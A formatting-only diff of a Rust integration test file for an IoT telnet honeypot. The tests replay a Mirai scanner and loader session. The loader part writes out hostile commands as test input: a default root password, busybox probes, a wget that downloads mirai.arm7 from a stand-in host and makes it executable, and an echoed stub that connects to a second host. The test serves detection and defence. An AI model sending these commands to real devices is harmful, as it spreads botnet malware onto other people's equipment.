@@ -8,7 +8,9 @@ use std::time::Duration;
 
 use iotscope_honeypot::events::Event;
 use iotscope_honeypot::persona::{builtin_personas, Deployment};
-use iotscope_honeypot::server::{self, HoneypotConfig, Limits, PayloadStore, Recorder, SessionRecord, Stats};
+use iotscope_honeypot::server::{
+    self, HoneypotConfig, Limits, PayloadStore, Recorder, SessionRecord, Stats,
+};
 use iotscope_honeypot::telnet::Accepted;
 use serde_json::Value;
 use tokio::io::{AsyncReadExt, AsyncWriteExt};
@@ -29,7 +31,10 @@ impl Recorder for Collect {
 }
 
 fn config(limits: Limits, payloads: Option<PayloadStore>) -> HoneypotConfig {
-    let p = builtin_personas().into_iter().find(|p| p.name == "hisilicon-dvr").unwrap();
+    let p = builtin_personas()
+        .into_iter()
+        .find(|p| p.name == "hisilicon-dvr")
+        .unwrap();
     HoneypotConfig {
         deployment: Arc::new(Deployment::new(p, 11)),
         accepted: Arc::new(Accepted::new(&iotscope_checks::dict::builtin())),
@@ -52,7 +57,10 @@ impl Bot {
         let mut s = sock.connect(to).await.unwrap();
         // Like a bot: no echo wanted.
         s.write_all(&[255, 254, 1]).await.unwrap();
-        Bot { s, seen: Vec::new() }
+        Bot {
+            s,
+            seen: Vec::new(),
+        }
     }
 
     /// Reads until `marker` shows; the bytes up to and with it.
@@ -67,15 +75,24 @@ impl Bot {
             let mut buf = [0u8; 4096];
             let n = tokio::time::timeout_at(deadline, self.s.read(&mut buf))
                 .await
-                .unwrap_or_else(|_| panic!("no {marker:?} in {:?}", String::from_utf8_lossy(&self.seen)))
+                .unwrap_or_else(|_| {
+                    panic!("no {marker:?} in {:?}", String::from_utf8_lossy(&self.seen))
+                })
                 .unwrap();
-            assert!(n > 0, "closed before {marker:?}: {:?}", String::from_utf8_lossy(&self.seen));
+            assert!(
+                n > 0,
+                "closed before {marker:?}: {:?}",
+                String::from_utf8_lossy(&self.seen)
+            );
             self.seen.extend_from_slice(&buf[..n]);
         }
     }
 
     async fn send(&mut self, line: &str) {
-        self.s.write_all(format!("{line}\r\n").as_bytes()).await.unwrap();
+        self.s
+            .write_all(format!("{line}\r\n").as_bytes())
+            .await
+            .unwrap();
     }
 
     async fn login(&mut self, user: &str, password: &str) {
@@ -92,7 +109,15 @@ fn escaped(bytes: &[u8]) -> String {
     bytes.iter().map(|b| format!("\\x{b:02x}")).collect()
 }
 
-async fn start(cfg: HoneypotConfig) -> (SocketAddr, Collect, Arc<Stats>, tokio::sync::oneshot::Sender<()>, tokio::task::JoinHandle<()>) {
+async fn start(
+    cfg: HoneypotConfig,
+) -> (
+    SocketAddr,
+    Collect,
+    Arc<Stats>,
+    tokio::sync::oneshot::Sender<()>,
+    tokio::task::JoinHandle<()>,
+) {
     let l = TcpListener::bind("127.0.0.1:0").await.unwrap();
     let addr = l.local_addr().unwrap();
     let rec = Collect::default();
@@ -112,8 +137,14 @@ async fn start(cfg: HoneypotConfig) -> (SocketAddr, Collect, Arc<Stats>, tokio::
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn a_mirai_scanner_then_its_loader_are_linked_and_their_servers_extracted() {
     let dir = tempfile::tempdir().unwrap();
-    let limits = Limits { login_fail_delay: Duration::ZERO, ..Limits::default() };
-    let payloads = PayloadStore { dir: dir.path().join("payloads"), budget: 1 << 20 };
+    let limits = Limits {
+        login_fail_delay: Duration::ZERO,
+        ..Limits::default()
+    };
+    let payloads = PayloadStore {
+        dir: dir.path().join("payloads"),
+        budget: 1 << 20,
+    };
     let (addr, rec, stats, stop, task) = start(config(limits, Some(payloads.clone()))).await;
 
     // The scanner: a wrong pair, then one of its list, the shell check, gone.
@@ -145,7 +176,8 @@ async fn a_mirai_scanner_then_its_loader_are_linked_and_their_servers_extracted(
     load.login("root", "xc3511").await;
     load.send("/bin/busybox ps; /bin/busybox ECCHI").await;
     load.expect("ECCHI: applet not found").await;
-    load.send("/bin/busybox cat /proc/mounts; /bin/busybox ECCHI").await;
+    load.send("/bin/busybox cat /proc/mounts; /bin/busybox ECCHI")
+        .await;
     let mounts = load.expect("ECCHI: applet not found").await;
     assert!(String::from_utf8_lossy(&mounts).contains("/tmp tmpfs rw"));
     load.send(r"/bin/busybox echo -e '\x41\x4b\x34\x37' > /tmp/.nippon; /bin/busybox cat /tmp/.nippon; /bin/busybox rm /tmp/.nippon").await;
@@ -153,9 +185,13 @@ async fn a_mirai_scanner_then_its_loader_are_linked_and_their_servers_extracted(
     load.send("cd /tmp/").await;
     load.send("/bin/busybox cp /bin/echo dvrHelper; >dvrHelper; /bin/busybox chmod 777 dvrHelper; /bin/busybox ECCHI").await;
     load.expect("ECCHI: applet not found").await;
-    load.send("/bin/busybox cat /bin/echo; /bin/busybox ECCHI").await;
+    load.send("/bin/busybox cat /bin/echo; /bin/busybox ECCHI")
+        .await;
     let elf = load.expect("ECCHI: applet not found").await;
-    let at = elf.windows(4).position(|w| w == b"\x7fELF").expect("an ELF header");
+    let at = elf
+        .windows(4)
+        .position(|w| w == b"\x7fELF")
+        .expect("an ELF header");
     assert_eq!(elf[at + 5], 1, "little-endian");
     assert_eq!(elf[at + 18], 40, "ARM");
     load.send("/bin/busybox wget http://198.51.100.7:8080/bins/mirai.arm7 -O - > dvrHelper; /bin/busybox chmod 777 dvrHelper; /bin/busybox ECCHI").await;
@@ -166,10 +202,15 @@ async fn a_mirai_scanner_then_its_loader_are_linked_and_their_servers_extracted(
     stub.extend_from_slice(&[2, 0, 0x05, 0x39, 203, 0, 113, 5, 0, 0, 0, 0, 0, 0, 0, 0]);
     stub.extend_from_slice(&[0xff, 0xfe, 0x00, 0x0d, 0x0a]);
     for chunk in stub.chunks(32) {
-        load.send(&format!("/bin/busybox echo -ne '{}' >> upnp; /bin/busybox ECCHI", escaped(chunk))).await;
+        load.send(&format!(
+            "/bin/busybox echo -ne '{}' >> upnp; /bin/busybox ECCHI",
+            escaped(chunk)
+        ))
+        .await;
         load.expect("ECCHI: applet not found").await;
     }
-    load.send("./upnp; ./dvrHelper telnet.arm7; /bin/busybox IHCCE").await;
+    load.send("./upnp; ./dvrHelper telnet.arm7; /bin/busybox IHCCE")
+        .await;
     load.expect("IHCCE: applet not found").await;
     load.send("exit").await;
     drop(load);
@@ -182,9 +223,18 @@ async fn a_mirai_scanner_then_its_loader_are_linked_and_their_servers_extracted(
     assert_eq!(scanner.login, Some(("root".into(), "xc3511".into())));
     assert_eq!(scanner.attempts.len(), 2);
     assert!(!scanner.is_loader());
-    assert_eq!(loader.linked, Some((scanner.id.clone(), "127.0.0.1".parse().unwrap())));
+    assert_eq!(
+        loader.linked,
+        Some((scanner.id.clone(), "127.0.0.1".parse().unwrap()))
+    );
     let urls: Vec<&str> = loader.downloads.iter().map(|d| d.url.as_str()).collect();
-    assert_eq!(urls, vec!["http://198.51.100.7:8080/bins/mirai.arm7", "tcp://203.0.113.5:1337"]);
+    assert_eq!(
+        urls,
+        vec![
+            "http://198.51.100.7:8080/bins/mirai.arm7",
+            "tcp://203.0.113.5:1337"
+        ]
+    );
     assert_eq!(loader.reason, "exit");
     // The stub is kept, byte for byte (IAC and CR LF inside included).
     assert_eq!(loader.payloads.len(), 1, "{:?}", loader.payloads);
@@ -192,14 +242,31 @@ async fn a_mirai_scanner_then_its_loader_are_linked_and_their_servers_extracted(
     assert_eq!(kept, stub);
     assert_eq!(loader.payloads[0].path, "/tmp/upnp");
     // The Cowrie events, in order per session.
-    let ids: Vec<&str> = events.iter().filter(|e| e["session"] == loader.id.as_str()).map(|e| e["eventid"].as_str().unwrap()).collect();
+    let ids: Vec<&str> = events
+        .iter()
+        .filter(|e| e["session"] == loader.id.as_str())
+        .map(|e| e["eventid"].as_str().unwrap())
+        .collect();
     assert_eq!(ids.first(), Some(&"cowrie.session.connect"));
     assert_eq!(ids.last(), Some(&"cowrie.session.closed"));
-    for id in ["cowrie.login.success", "cowrie.command.input", "cowrie.command.failed", "cowrie.session.file_download.failed", "cowrie.session.file_upload", "iotscope.session.linked"] {
+    for id in [
+        "cowrie.login.success",
+        "cowrie.command.input",
+        "cowrie.command.failed",
+        "cowrie.session.file_download.failed",
+        "cowrie.session.file_upload",
+        "iotscope.session.linked",
+    ] {
         assert!(ids.contains(&id), "{id} missing from {ids:?}");
     }
-    let failed = events.iter().find(|e| e["eventid"] == "cowrie.login.failed").unwrap();
-    assert_eq!((failed["username"].as_str(), failed["password"].as_str()), (Some("admin"), Some("nope")));
+    let failed = events
+        .iter()
+        .find(|e| e["eventid"] == "cowrie.login.failed")
+        .unwrap();
+    assert_eq!(
+        (failed["username"].as_str(), failed["password"].as_str()),
+        (Some("admin"), Some("nope"))
+    );
     assert_eq!(stats.linked.load(std::sync::atomic::Ordering::Relaxed), 1);
 }
 
@@ -225,14 +292,22 @@ async fn bounds_end_sessions_and_a_flood_loses_no_event() {
     let line = format!("echo {}", "A".repeat(1000));
     let mut closed = false;
     for _ in 0..200 {
-        if big.s.write_all(format!("{line}\r\n").as_bytes()).await.is_err() {
+        if big
+            .s
+            .write_all(format!("{line}\r\n").as_bytes())
+            .await
+            .is_err()
+        {
             closed = true;
             break;
         }
     }
     let mut sink = Vec::new();
     let _ = tokio::time::timeout(Duration::from_secs(5), big.s.read_to_end(&mut sink)).await;
-    assert!(closed || sink.len() < 200 * 1000 * 2, "input past the limit is not answered");
+    assert!(
+        closed || sink.len() < 200 * 1000 * 2,
+        "input past the limit is not answered"
+    );
 
     // 1,000 sessions at once, each logging in and running a command.
     let mut bots = Vec::new();
@@ -256,7 +331,10 @@ async fn bounds_end_sessions_and_a_flood_loses_no_event() {
     // Each hangs up after its exit.
     for mut b in open {
         let mut rest = Vec::new();
-        tokio::time::timeout(Duration::from_secs(10), b.s.read_to_end(&mut rest)).await.unwrap().unwrap();
+        tokio::time::timeout(Duration::from_secs(10), b.s.read_to_end(&mut rest))
+            .await
+            .unwrap()
+            .unwrap();
     }
     let _ = stop.send(());
     task.await.unwrap();
@@ -266,11 +344,16 @@ async fn bounds_end_sessions_and_a_flood_loses_no_event() {
     assert!(reasons.contains(&"login timeout"));
     assert!(reasons.contains(&"input limit"));
     assert_eq!(reasons.iter().filter(|r| **r == "exit").count(), 1000);
-    let commands = events.iter().filter(|e| e["eventid"] == "cowrie.command.input").count();
+    let commands = events
+        .iter()
+        .filter(|e| e["eventid"] == "cowrie.command.input")
+        .count();
     // Every flood session's line and exit, and what the big one typed.
     assert!(commands >= 2000, "{commands}");
     for i in [0, 499, 999] {
-        assert!(events.iter().any(|e| e["input"] == format!("echo flood{i}; /bin/busybox FLOOD").as_str()));
+        assert!(events
+            .iter()
+            .any(|e| e["input"] == format!("echo flood{i}; /bin/busybox FLOOD").as_str()));
     }
     assert_eq!(stats.refused.load(std::sync::atomic::Ordering::Relaxed), 0);
 }
